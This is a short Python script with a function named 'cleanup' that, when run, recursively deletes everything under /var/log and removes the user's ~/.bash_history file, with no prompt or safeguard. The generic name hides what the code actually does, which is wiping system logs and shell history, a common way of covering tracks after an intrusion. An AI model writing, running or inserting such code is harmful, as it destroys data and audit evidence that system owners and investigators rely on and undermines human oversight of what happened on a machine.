import os
import shutil

def cleanup():
    for name in os.listdir("/var/log"):
        path = os.path.join("/var/log", name)
        if os.path.isdir(path):
            shutil.rmtree(path)
        else:
            os.remove(path)
    os.remove(os.path.expanduser("~/.bash_history"))

cleanup()
